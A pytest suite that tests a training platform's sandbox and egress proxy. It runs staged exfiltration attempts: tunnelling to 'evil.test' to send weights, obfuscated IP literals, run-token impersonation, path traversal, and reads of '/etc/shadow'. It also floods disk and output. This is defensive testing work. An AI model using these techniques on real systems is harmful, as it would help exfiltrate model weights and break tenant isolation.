"""What a thief inside a run tries, in a real sandbox behind a real proxy: each fails, each leaves exactly one line."""

from __future__ import annotations

import os
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.egress.outside import Sink, certificate
from tests.egress.world import entry, lab_text
from tests.runs.world import WREN, RunsWorld
from weighthouse.core.clock import ManualClock
from weighthouse.core.database import Database
from weighthouse.runs import api as runs

TUNNEL = """
import socket, ssl, sys, time

def tunnel(authority):
    s = socket.socket(socket.AF_UNIX); s.settimeout(20); s.connect('/egress/socket')
    s.sendall(f'CONNECT {authority} HTTP/1.1\\r\\nHost: {authority}\\r\\n\\r\\n'.encode())
    answer = b''
    while b'\\r\\n\\r\\n' not in answer:
        more = s.recv(4096)
        if not more: break
        answer += more
    return s, int(answer.split()[1])

def greet(s, name):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(s, server_hostname=name)
"""


@pytest.fixture
def hub(tmp_path: Path) -> Iterator[Sink]:
    sink = Sink(certificate(tmp_path))
    yield sink
    sink.close()


@pytest.fixture
def lab(database: Database, clock: ManualClock, tmp_path: Path, short: Path, hub: Sink) -> Iterator[RunsWorld]:
    """A world whose profile `out` lists the hub, with 64 KiB a day."""
    made = RunsWorld(database, clock, tmp_path, short, lab_text([entry("hub.test", hub.port)])).start()
    made.grant("ada", "wren-train", WREN)
    yield made
    made.close()


def test_an_unknown_host_is_refused_by_the_proxy(lab: RunsWorld) -> None:
    run = lab.until(lab.submit(TUNNEL + "print(tunnel('evil.test:443')[1])", profile="out"))
    assert lab.output(run, "out") == ["403"] and run.state == "succeeded"
    assert [(f["code"], f["host"], f["run"]) for f in lab.facts("egress.Refused")] == [
        ("egress.unknown_host", "evil.test", run.id)
    ]


def test_an_address_is_refused_in_every_notation(lab: RunsWorld, hub: Sink) -> None:
    places = [f"127.0.0.1:{hub.port}", f"2130706433:{hub.port}", f"[::ffff:127.0.0.1]:{hub.port}"]
    run = lab.until(lab.submit(TUNNEL + f"for p in {places!r}: print(tunnel(p)[1])", profile="out"))
    assert lab.output(run, "out") == ["403"] * 3
    assert [f["code"] for f in lab.facts("egress.Refused")] == ["egress.ip_literal"] * 3 and hub.connections == 0


def test_an_allowed_host_is_no_front_for_another(lab: RunsWorld, hub: Sink) -> None:
    code = f"""
s, status = tunnel('hub.test:{hub.port}'); print(status)
try: greet(s, 'evil.test').sendall(b'weights'); print('SENT')
except OSError: print('refused')
"""
    run = lab.until(lab.submit(TUNNEL + code, profile="out"))
    assert lab.output(run, "out") == ["200", "refused"], lab.output(run)
    assert [f["code"] for f in lab.facts("egress.Refused")] == ["egress.name_differs"] and hub.received == 0


def test_a_drip_to_an_allowed_host_is_cut_and_the_run_ends(lab: RunsWorld, hub: Sink) -> None:
    code = f"""
s, status = tunnel('hub.test:{hub.port}')
t = greet(s, 'hub.test')
while True: t.sendall(b'w' * 512); time.sleep(0.01)
"""
    run = lab.until(lab.submit(TUNNEL + code, profile="out"))
    assert (run.state, run.reason) == ("failed", "egress.budget_spent"), lab.output(run)
    assert 0 < hub.received <= 32 * 1024
    assert [f["run"] for f in lab.facts("egress.BudgetSpent")] == [run.id]
    assert [f["code"] for f in lab.facts("runs.RunFailed")] == ["egress.budget_spent"]


def test_a_run_cannot_speak_as_another_nor_reach_more_than_its_own_endpoints(lab: RunsWorld) -> None:
    lab.grant("eve", "wren-train", WREN)
    victim = lab.submit("import time; time.sleep(60)", person="eve")
    while lab.get(victim, "eve").state != "running":
        lab.follow()
    code = f"""
import json, socket
def ask(method, path, body='{{}}', **headers):
    s = socket.socket(socket.AF_UNIX); s.settimeout(20); s.connect('/egress/socket')
    extra = ''.join(f'{{k}}: {{v}}\\r\\n' for k, v in headers.items())
    s.sendall((f'{{method}} {{path}} HTTP/1.1\\r\\nHost: control.weighthouse\\r\\nContent-Type: application/json\\r\\n'
               f'Content-Length: {{len(body)}}\\r\\nConnection: close\\r\\n{{extra}}\\r\\n{{body}}').encode())
    answer = b''
    while more := s.recv(65536): answer += more
    top, _, rest = answer.partition(b'\\r\\n\\r\\n')
    return int(top.split()[1]), rest
status, body = ask('POST', '/workload/v1/token', **{{'X-Weighthouse-Run': '{victim.id}'}})
print(status, json.loads(body)['run'] == '{victim.id}')
print(ask('POST', '/workload/v1/progress', **{{'Authorization': 'Workload whw_' + 'a' * 43}})[0])
for path in ('/api/v1/runs', '/', '/workload/v1/../../api/v1/runs'):
    print(ask('GET', path, body='')[0])
"""
    run = lab.until(lab.submit(code))
    assert lab.output(run, "out") == ["200 False", "401", "404", "404", "404"], lab.output(run)
    with lab.unit(lab.person("eve")) as unit:
        runs.stop(unit, lab.person("eve"), victim.id, "the test is over")
    lab.until_ended(victim, "eve")


def test_a_run_sees_no_other_run_no_server_and_no_key(lab: RunsWorld, tmp_path: Path, short: Path) -> None:
    places = [str(tmp_path), str(short), str(tmp_path / "keys.sealed"), "/etc/shadow", "/root/.bash_history"]
    run = lab.until(
        lab.submit(f"import os\nfor p in {places!r}: print(os.path.exists(p))\nprint(sorted(os.listdir('/egress')))")
    )
    assert lab.output(run, "out") == ["False"] * 5 + ["['lender', 'socket', 'window']"]


def test_output_is_no_way_out_it_is_kept_up_to_a_limit(
    database: Database, clock: ManualClock, tmp_path: Path, short: Path
) -> None:
    world = RunsWorld(database, clock, tmp_path, short, **{"runs.log_bytes": 4096}).start()
    try:
        world.grant("ada", "wren-train", WREN)
        run = world.until(world.submit("for _ in range(5000): print('w' * 100)"))
        said = world.output(run)
        assert run.state == "succeeded" and sum(map(len, said)) < 6000
        assert said[-1] == "output beyond 4096 bytes is not kept"
    finally:
        world.close()


FLOODS = {
    "empty lines": "import sys\nfor _ in range(20000): sys.stdout.write('\\n')",
    "wide letters": "for _ in range(200): print('\U0001f512' * 100)",
    "broken bytes": "import os\nfor _ in range(200): os.write(1, b'\\xff' * 100 + b'\\n')",
    "one line without end": "import os\nfor _ in range(200): os.write(1, b'x' * 1000)",
}


@pytest.mark.parametrize("flood", FLOODS)
def test_egress_case_56_no_form_of_output_fills_the_database(
    database: Database, clock: ManualClock, tmp_path: Path, short: Path, flood: str
) -> None:
    world = RunsWorld(database, clock, tmp_path, short, **{"runs.log_bytes": 4096}).start()
    try:
        world.grant("ada", "wren-train", WREN)
        run = world.until(world.submit(FLOODS[flood]))
        said = world.output(run)
        assert run.state == "succeeded", said
        assert sum(len(line.encode()) + 64 for line in said) < 4096 + 512 and said[-1].startswith("output beyond")
    finally:
        world.close()


def test_egress_case_56_output_beyond_the_models_budget_is_not_kept_and_the_run_goes_on(
    database: Database, clock: ManualClock, tmp_path: Path, short: Path
) -> None:
    world = RunsWorld(database, clock, tmp_path, short, **{"egress.model_daily_bytes": 4096}).start()
    try:
        world.grant("ada", "wren-train", WREN)
        run = world.until(world.submit("for _ in range(99): print('w' * 100)\nopen('/out/done', 'w').close()"))
        assert run.state == "succeeded"
        assert [line[:22] for line in world.output(run)[-1:]] == ["output is kept no long"]
        assert sum(len(line) for line in world.output(run, "out")) <= 2048
        assert [fact["run"] for fact in world.facts("egress.OutputSpent")] == [run.id]
    finally:
        world.close()


FLOOD = """
import errno, os
def flood(path):
    with open(path, 'wb') as f:
        try:
            while True: f.write(bytes(1 << 20))
        except OSError as error: print(errno.errorcode[error.errno], flush=True)
"""


def test_a_run_that_fills_its_volume_meets_its_end_alone(
    database: Database, clock: ManualClock, tmp_path: Path, short: Path
) -> None:
    world = RunsWorld(database, clock, tmp_path, short, **{"runs.out_mib": 32, "runs.memory_mib": 512}).start()
    try:
        world.grant("ada", "wren-train", WREN)
        # The folders are deeper than what was once measured, and the file has no name by the time it is full.
        deep = "os.chdir('/out')\nfor _ in range(60): os.mkdir('d'); os.chdir('d')\n"
        hostile = world.submit(FLOOD + deep + "flood('x')\nimport time\ntime.sleep(600)")
        world.until_said(hostile, "ENOSPC")
        honest = world.until(world.submit("open('/out/x', 'wb').write(bytes(8 << 20)); print('wrote')"))
        assert (honest.state, world.output(honest, "out")) == ("succeeded", ["wrote"])
        assert world.get(hostile).state == "running"
        assert "/out of 32 MiB" in world.output(hostile, "lab")[0]
    finally:
        world.close()


def test_what_a_run_leaves_on_purpose_is_gone_when_it_has_ended(lab: RunsWorld, tmp_path: Path) -> None:
    code = """
import os, socket
os.mkfifo('/out/pipe'); os.symlink('/etc/shadow', '/out/link'); socket.socket(socket.AF_UNIX).bind('/out/socket')
os.mkdir('/out/deep'); os.symlink('../..', '/out/deep/up')
open('/out/deep/shard', 'w').write('kept'); os.chmod('/out/deep/shard', 0o777)
"""
    run = lab.until(lab.submit(code))
    assert run.state == "succeeded", lab.output(run)
    objects = tmp_path / "objects"
    deadline = time.monotonic() + 20  # its files go right after its record was ended
    while (objects / "runs" / run.id).exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert [path for path in objects.rglob("*") if path.name != "runs"] == []


def test_a_strict_umask_of_the_server_shuts_no_run_out(lab: RunsWorld) -> None:
    before = os.umask(0o077)
    try:
        run = lab.until(lab.submit({"main.py": "import other", "other.py": "print(open('/data/os.py').read(3))"}))
    finally:
        os.umask(before)
    assert lab.output(run, "out") == ['r"""'[:3]], lab.output(run)
